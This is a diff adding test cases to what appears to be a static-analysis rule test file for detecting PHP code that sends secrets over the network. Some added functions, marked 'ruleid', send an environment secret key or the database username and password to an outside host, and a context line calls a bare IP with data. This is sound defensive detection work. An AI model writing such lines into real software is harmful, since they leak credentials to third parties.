@@ -27,6 +27,28 @@ function accounts()
     file_get_contents('http://198.51.100.4/u?d=' . $t);
 }
 
+function of_host()
+{
+    $key = getenv('UNIT_SECRET_KEY');
+    // ruleid: php-secret-leaves-by-network
+    return fopen("https://s.example.org/k/$key", 'r');
+}
+
+function of_site()
+{
+    $what = DB_USER . '|' . DB_PASSWORD;
+    // ruleid: php-secret-leaves-by-network
+    wp_remote_post('https://s.example.org/', array('body' => $what));
+    // ok: php-secret-leaves-by-network
+    return new mysqli('localhost', DB_USER, DB_PASSWORD);
+}
+
+function proxy()
+{
+    // ok: php-secret-leaves-by-network
+    return fopen('https://example.org/' . getenv('UNIT_LANGUAGE'), 'r');
+}
+
 function page($n)
 {
     // ok: php-secret-leaves-by-network
